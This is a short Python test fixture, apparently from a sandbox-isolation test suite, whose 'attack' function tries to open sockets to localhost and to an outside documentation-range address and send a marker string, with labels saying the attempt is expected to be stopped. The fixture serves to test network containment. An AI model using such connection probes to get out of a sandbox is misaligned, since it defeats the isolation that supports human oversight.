"""Connects to the outside, and to this machine."""

# goal: is heard
# expect: stopped
# violation: socket
# control: unsandboxed

import socket


def attack():
    for place in (("127.0.0.1", tcp_port), ("192.0.2.1", 53)):
        try:
            with socket.create_connection(place, timeout=1) as connection:
                connection.sendall(mark.encode())
            return True
        except OSError:
            pass
